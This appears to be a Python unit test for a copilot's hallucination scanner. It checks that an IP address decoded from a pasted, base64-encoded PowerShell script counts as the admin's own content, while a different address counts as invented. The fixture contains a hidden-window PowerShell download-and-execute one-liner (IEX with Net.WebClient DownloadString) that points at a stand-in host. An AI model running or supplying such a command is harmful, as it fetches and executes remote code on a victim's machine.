"""The independent hallucination scan: what a pasted script holds is the admin's own content."""

from __future__ import annotations

import base64

from idpilot.copilot.answer import Answer
from idpilot.evaluation.scoring import hallucinated_entities


class _NoNames:
    def named_in(self, text: str) -> set[str]:
        return set()


def _encoded(command: str) -> str:
    return base64.b64encode(command.encode("utf-16-le")).decode()


def test_an_address_decoded_from_the_pasted_script_is_not_invented() -> None:
    script = _encoded("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.44/a.ps1')")
    prompt = f"is this safe? powershell -nop -w hidden -enc {script}"
    answer = Answer(prompt=prompt, answer="It downloads from 192.0.2.44.", session_id="")
    assert hallucinated_entities(answer, _NoNames()) == []  # type: ignore[arg-type]
    invented = Answer(prompt=prompt, answer="It then calls 192.0.2.45.", session_id="")
    assert hallucinated_entities(invented, _NoNames()) == ["192.0.2.45"]  # type: ignore[arg-type]
